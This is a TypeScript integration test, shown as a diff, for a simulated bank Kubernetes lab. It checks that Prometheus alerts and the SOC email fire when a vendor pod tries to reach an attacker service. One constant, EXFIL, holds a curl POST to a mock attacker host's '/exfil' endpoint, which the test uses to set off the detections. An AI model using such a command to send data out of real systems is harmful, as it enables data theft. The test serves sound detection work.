@@ -1,0 +1,112 @@
+// The evidence stack in a running cluster: every pod and the node scraped, the shipped PrometheusRule evaluated,
+// the converter's attempts on the attacker alerting (BankToAttackerAttempt with no policy: detection without
+// enforcement; IstioAuthZDeny once the mesh refuses it) and the SOC inbox receiving the Alertmanager's mail over
+// SMTP; a clean run raises nothing. Rate-based rules see a counter's increase, so each act makes two attempts
+// (a series born at 1 has no increase to show, in Prometheus as here).
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { DEFAULT_MANIFESTS } from '../src/control-plane/cluster.ts';
+import { startTestCluster, type TestCluster } from './support/cluster.ts';
+
+const CONVERTER = ['trustusbank-bank-vendors', 'currency-converter'] as const;
+const EXFIL = ['-X', 'POST', '-d', '{"probe":1}', 'http://mock-attacker.external-attacker.svc.cluster.local:8080/exfil'];
+const INTERVAL_MS = 500;
+
+describe('the evidence stack in the cluster', () => {
+  let t: TestCluster;
+  let prometheus: string;
+  let inbox: string;
+  beforeAll(async () => {
+    t = await startTestCluster({ scrapeIntervalMs: INTERVAL_MS, evaluationIntervalMs: INTERVAL_MS });
+    prometheus = t.cluster.forwards.find((f) => f.service === 'prometheus')!.url;
+    inbox = t.cluster.forwards.find((f) => f.service === 'soc-inbox')!.url;
+  }, 120_000);
+  afterAll(async () => {
+    await t?.close();
+  });
+
+  const query = async (q: string): Promise<{ metric: Record<string, string>; value: [number, string] }[]> => {
+    const body = (await (await fetch(new URL(`api/v1/query?query=${encodeURIComponent(q)}`, prometheus))).json()) as { status: string; data: { result: { metric: Record<string, string>; value: [number, string] }[] } };
+    expect(body.status).toBe('success');
+    return body.data.result;
+  };
+  /** Poll (bounded) until `check` holds: the stack scrapes and evaluates on its own clock. */
+  const eventually = async <T>(what: string, check: () => Promise<T | undefined>, timeoutMs = 60_000): Promise<T> => {
+    const deadline = Date.now() + timeoutMs;
+    for (;;) {
+      const value = await check();
+      if (value !== undefined) return value;
+      if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
+      await new Promise((resolve) => setTimeout(resolve, 200));
+    }
+  };
+  /** A full evaluation round after now: what a rule would say has been said. */
+  const settled = async (): Promise<void> => {
+    const after = Date.now() + 2 * INTERVAL_MS;
+    await eventually('two evaluation rounds', async () => (t.cluster.evidence.monitor.ruleGroups().every((g) => (g.lastEvaluation ?? 0) > after) ? true : undefined));
+  };
+  const firing = async (): Promise<string[]> => (await query('ALERTS{alertstate="firing"}')).map((s) => s.metric.alertname!).sort();
+  const mails = async (): Promise<{ subject: string; text: string }[]> => {
+    const body = (await (await fetch(new URL('api/v2/messages', inbox))).json()) as { items: { Content: { Headers: Record<string, string[]> }; Decoded?: { Subject: string; Text: string | null } }[] };
+    return body.items.map((item) => ({ subject: item.Decoded?.Subject ?? '', text: item.Decoded?.Text ?? '' }));
+  };
+
+  it('scrapes every pod and the node, and runs the shipped rules; a clean run fires nothing', async () => {
+    const pods = t.cluster.engine.allPods().length;
+    const up = await eventually('every target up', async () => {
+      const result = await query('up == 1');
+      return result.length === pods + 1 ? result : undefined;
+    });
+    expect(up.map((s) => s.metric.job)).toEqual(expect.arrayContaining(['trustusbank-node', 'account-mcp', 'mock-attacker', 'currency-converter']));
+    expect(up.find((s) => s.metric.job === 'account-mcp')!.metric).toMatchObject({ namespace: 'trustusbank-bank-mcp', service: 'account-mcp' });
+    const rules = (await (await fetch(new URL('api/v1/rules', prometheus))).json()) as { data: { groups: { rules: { name: string; health: string }[] }[] } };
+    const names = rules.data.groups.flatMap((g) => g.rules.map((r) => r.name));
+    expect(names).toEqual(expect.arrayContaining(['IstioAuthZDeny', 'BankToAttackerAttempt', 'KagentAccessPolicyDeny']));
+
+    const clean = await t.chat('I am customer 12345. Please check my balance, list my recent transactions, and convert my balance to USD.');
+    expect(clean.failed).toBe(false);
+    await settled();
+    expect(await firing()).toEqual([]);
+    expect(await mails()).toEqual([]);
+  });
+
+  it('alerts BankToAttackerAttempt on the converter reaching the attacker with no policy, and mails the SOC', async () => {
+    for (let i = 0; i < 2; i++) {
+      expect((await t.curlFrom(...CONVERTER, EXFIL)).code).toBe(0);
+      await settled();
+    }
+    await eventually('BankToAttackerAttempt firing', async () => ((await firing()).includes('BankToAttackerAttempt') ? true : undefined));
+    const alert = (await query('ALERTS{alertname="BankToAttackerAttempt",alertstate="firing"}'))[0]!.metric;
+    expect(alert).toMatchObject({ source_workload: 'currency-converter', source_workload_namespace: 'trustusbank-bank-vendors', source_principal: 'spiffe://cluster.local/ns/trustusbank-bank-vendors/sa/currency-converter', severity: 'critical' });
+    const mail = await eventually('the SOC mail', async () => (await mails()).find((m) => m.subject.includes('BankToAttackerAttempt')));
+    expect(mail.subject).toMatch(/^\[FIRING:1\] BankToAttackerAttempt — TrustUsBank SOC alert$/);
+    expect(mail.text).toContain('spiffe://cluster.local/ns/trustusbank-bank-vendors/sa/currency-converter');
+    expect(mail.text).toContain('kubectl -n trustusbank-bank-vendors scale deploy/currency-converter --replicas=0');
+  }, 120_000);
+
+  it('alerts IstioAuthZDeny once the mesh refuses the converter, and BankToAttackerAttempt still counts the attempts', async () => {
+    const policy = join(DEFAULT_MANIFESTS, 'policies', 'mesh', 'deny-bank-to-attacker.yaml');
+    await t.cluster.engine.apply([{ file: policy, text: readFileSync(policy, 'utf8') }]);
+    const attemptsBefore = Number((await query('sum(istio_tcp_connections_opened_total{reporter="source",destination_workload_namespace="external-attacker"})'))[0]!.value[1]);
+    for (let i = 0; i < 2; i++) {
+      expect((await t.curlFrom(...CONVERTER, EXFIL)).code).toBe(56);
+      await settled();
+    }
+    await eventually('IstioAuthZDeny firing', async () => ((await firing()).includes('IstioAuthZDeny') ? true : undefined));
+    const attemptsAfter = Number((await query('sum(istio_tcp_connections_opened_total{reporter="source",destination_workload_namespace="external-attacker"})'))[0]!.value[1]);
+    expect(attemptsAfter).toBe(attemptsBefore + 2);
+    const mail = await eventually('the IstioAuthZDeny mail', async () => (await mails()).find((m) => m.subject.includes('IstioAuthZDeny')));
+    expect(mail.subject).toMatch(/^\[FIRING:\d+\] IstioAuthZDeny — TrustUsBank SOC alert$/);
+  }, 120_000);
+
+  it('answers bad PromQL with bad_data, and reset clears alerts and mail', async () => {
+    const bad = await fetch(new URL('api/v1/query?query=sum(', prometheus));
+    expect(bad.status).toBe(400);
+    expect(await bad.json()).toMatchObject({ status: 'error', errorType: 'bad_data' });
+    t.cluster.evidence.reset();
+    expect(await mails()).toEqual([]);
+    const silenced = (await (await fetch(new URL('api/v2/alerts', t.cluster.forwards.find((f) => f.service === 'alertmanager')!.url))).json()) as unknown[];
+    expect(silenced).toEqual([]);
+  });
+});
